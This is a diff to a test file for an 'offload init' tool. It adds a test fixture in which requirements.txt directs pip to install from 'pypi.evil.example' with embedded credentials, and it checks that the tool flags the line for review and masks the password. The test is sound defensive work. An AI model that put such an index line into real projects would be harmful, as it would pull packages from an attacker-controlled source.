@@ -1,4 +1,5 @@
-// One YAML file init cannot read (an alias bomb) costs that file, never the whole of `offload init`.
+// One YAML file init cannot read (an alias bomb) costs that file, never the whole of `offload init`; a
+// requirements file that installs from another index is named for review.
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -25,5 +26,21 @@ it('writes offload.yml past a YAML alias bomb in the repository', () => {
   const { text, findings } = initConfig(dir);
   expect(text).toContain('phases:');
   expect(findings.some((f) => f.text.startsWith('Python'))).toBe(true);
+  fs.rmSync(dir, { recursive: true, force: true });
+});
+
+it('asks the user to check a requirements file that installs from another package index', () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'offload-init-index-'));
+  fs.writeFileSync(
+    path.join(dir, 'requirements.txt'),
+    '--index-url http://deploy:hunter2@pypi.evil.example/simple\nrequests\n',
+  );
+  const { findings } = initConfig(dir);
+  const todo = findings.find((f) => f.text.includes('makes pip install from'));
+  expect(todo).toMatchObject({ kind: 'todo' });
+  expect(todo!.text).toBe(
+    'requirements.txt makes pip install from http://***@pypi.evil.example/simple (--index-url), not PyPI: check you mean it before `offload run local` — plain http can be tampered with on the way',
+  );
+  expect(JSON.stringify(findings)).not.toContain('hunter2');
   fs.rmSync(dir, { recursive: true, force: true });
 });
